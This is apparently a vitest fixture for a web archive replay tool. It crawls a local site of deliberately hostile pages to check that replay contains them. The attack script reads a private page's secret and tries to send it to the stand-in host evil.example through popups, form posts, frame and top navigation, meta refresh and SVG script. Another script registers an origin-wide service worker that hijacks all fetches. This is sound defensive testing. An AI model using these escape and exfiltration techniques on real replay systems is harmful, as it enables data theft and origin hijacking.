import { expect } from 'vitest';
import { runCli } from './cli.js';
import { startServer } from './test-server.js';

/** What /private holds: the page an attack reads through replay and tries to send out. */
export const SECRET = 'SECRET-7f3a9c';
/** The live host the hostile pages reach for. Nothing resolves it; the logging proxy records it. */
export const EVIL_HOST = 'evil.example';

const html = (body: string) => ({ type: 'text/html; charset=utf-8', body, headers: {} as Record<string, string> });

/**
 * Every way the attack page tries to leave replay, once it has read /private through replay: a
 * popup from a frame it creates (the shim wraps that one), a popup from a frame the shim never
 * saw (`frames[name]`), its own popup, a form posted to a new window, its frame navigated to the
 * live web; and whether it can read the UI that frames it. It writes what happened into #done;
 * a click on #leave (a user's click: the strongest case) then navigates the top document away.
 */
const ATTACK_SCRIPT = `
(async function () {
  var report = {};
  var secret = 'unread';
  try { secret = (/${SECRET.split('-')[0]}-[0-9a-f]+/.exec(await (await fetch('/private')).text()) || ['not found'])[0]; } catch (error) { secret = 'failed'; }
  report.secret = secret;
  var evil = function (what) { return 'http://${EVIL_HOST}/' + what + '?d=' + secret; };
  var attempt = function (name, run) { try { report[name] = String(run()); } catch (error) { report[name] = 'threw ' + error.name; } };
  var created = document.createElement('iframe');
  document.body.appendChild(created);
  attempt('frameShimmed', function () { return created.contentWindow.__crawliteReplay !== undefined; });
  attempt('framePopup', function () { return created.contentWindow.open(evil('frame-popup')) !== null; });
  document.body.insertAdjacentHTML('beforeend', '<iframe name="unseen"></iframe>');
  attempt('unseenFramePopup', function () { return window.frames.unseen.open(evil('unseen-frame-popup')) !== null; });
  attempt('popup', function () { return window.open(evil('popup')) !== null; });
  attempt('formToNewWindow', function () {
    var form = document.createElement('form');
    form.method = 'get';
    form.target = '_blank';
    document.body.appendChild(form);
    form.setAttribute('action', evil('form'));
    HTMLFormElement.prototype.submit.call(form);
    return 'submitted';
  });
  attempt('readParent', function () { return window.parent === window ? 'top' : parent.document.body.innerHTML.length; });
  var ui = location.ancestorOrigins && location.ancestorOrigins.length ? location.ancestorOrigins[location.ancestorOrigins.length - 1] : '';
  var readUi = async function (win) {
    try { return /id="nav-search"/.test(await (await win.fetch(ui + '/urls')).text()) ? 'read the UI' : 'not the UI'; } catch (error) { return 'failed'; }
  };
  report.fetchUi = ui ? await readUi(window) : 'no ui';
  report.fetchUiUnseen = ui ? await readUi(window.frames.unseen) : 'no ui';
  attempt('frameNavigation', function () { window.frames.unseen.location.href = evil('frame-navigation'); return 'asked'; });
  document.getElementById('leave').addEventListener('click', function () { top.location.href = evil('top-navigation'); });
  document.getElementById('done').textContent = JSON.stringify(report);
})();
`;

/**
 * Registers a worker over the whole replay origin with its own capture's replay URL (scope `/`,
 * which the captured Service-Worker-Allowed: / permits), through the page's own API and through a
 * frame the shim never saw; writes what happened into #sw-result.
 */
const SERVICE_WORKER_SCRIPT = `
(async function () {
  var out = document.getElementById('sw-result');
  var results = [];
  async function register(container, how) {
    try {
      await container.register(new URL('sw.js', location.href).href, { scope: '/' });
      results.push(how + ': registered');
    } catch (error) {
      results.push(how + ': refused');
    }
  }
  if (!navigator.serviceWorker) { out.textContent = 'no service worker API'; return; }
  await register(navigator.serviceWorker, 'page');
  document.body.insertAdjacentHTML('beforeend', '<iframe name="unseen"></iframe>');
  await register(window.frames.unseen.navigator.serviceWorker, 'unseen frame');
  if (results.some(function (result) { return result.endsWith(': registered'); })) await navigator.serviceWorker.ready;
  out.textContent = results.join('; ');
})();
`;

const WORKER = `self.addEventListener('install', function () { self.skipWaiting(); });
self.addEventListener('activate', function (event) { event.waitUntil(self.clients.claim()); });
self.addEventListener('fetch', function (event) {
  event.respondWith(new Response('<!doctype html><h1 id="owned">owned by the archived worker</h1>', { headers: { 'content-type': 'text/html' } }));
});`;

/** The captures the replay attack tests use, by path. */
export const HOSTILE_PAGES = {
  private: '/private',
  attack: '/attack.html',
  refresh: '/refresh.html',
  serviceWorker: '/sw.html',
  worker: '/sw.js',
  about: '/about.html',
  svg: '/drawing.svg',
} as const;

/**
 * Crawls a site of hostile pages (served on 127.0.0.1, gone once crawled) into `db` with the CLI,
 * so replay serves real captures: a private page, the attack page, a page whose meta refresh
 * leads to the live web, a page that registers a service worker (captured with
 * Service-Worker-Allowed: / and Access-Control-Allow-Origin: *), an SVG whose script navigates to
 * the live web, and a harmless page.
 * Returns the URL the site had.
 */
export async function crawlHostileReplaySite(db: string): Promise<string> {
  const routes: Record<string, { type: string; body: string; headers: Record<string, string> }> = {
    '/': html(
      `<!doctype html><title>index</title>${Object.values(HOSTILE_PAGES)
        .map((path) => `<a href="${path}">${path}</a> `)
        .join('')}`,
    ),
    [HOSTILE_PAGES.private]: html(`<!doctype html><title>intranet</title><p id="secret">${SECRET}</p>`),
    [HOSTILE_PAGES.attack]: html(
      `<!doctype html><title>attack</title><body><p id="done"></p><button id="leave">leave</button><script>${ATTACK_SCRIPT}</script></body>`,
    ),
    [HOSTILE_PAGES.refresh]: html(
      `<!doctype html><title>refresh</title><meta http-equiv="refresh" content="0;url=http://${EVIL_HOST}/refresh"><p id="refreshing">leaving</p>`,
    ),
    [HOSTILE_PAGES.serviceWorker]: html(
      `<!doctype html><title>worker</title><body><p id="sw-result"></p><a href="sw.js">worker</a><script>${SERVICE_WORKER_SCRIPT}</script></body>`,
    ),
    [HOSTILE_PAGES.worker]: {
      type: 'text/javascript',
      body: WORKER,
      headers: { 'service-worker-allowed': '/', 'access-control-allow-origin': '*' },
    },
    [HOSTILE_PAGES.about]: html('<!doctype html><title>about</title><h1 id="about">About, as captured</h1>'),
    // A document that is no HTML page: replay does not rewrite it, and no shim runs in it.
    [HOSTILE_PAGES.svg]: {
      type: 'image/svg+xml',
      body: `<svg xmlns="http://www.w3.org/2000/svg" width="100" height="20"><text id="drawn" y="15">drawn</text><script>location.href = 'http://${EVIL_HOST}/svg';</script></svg>`,
      headers: {},
    },
  };
  const site = await startServer((_req, res, path) => {
    const route = routes[path];
    if (!route) res.writeHead(404, { 'content-type': 'text/plain' }).end('not found');
    else res.writeHead(200, { 'content-type': route.type, ...route.headers }).end(route.body);
  });
  try {
    const crawl = await runCli(['crawl', site.url, '--db', db, '-q', '--ignore-robots', '--delay', '0']);
    expect(crawl, 'the hostile site is archived').toMatchObject({ code: 0, stderr: '' });
  } finally {
    await site.close();
  }
  return site.url;
}
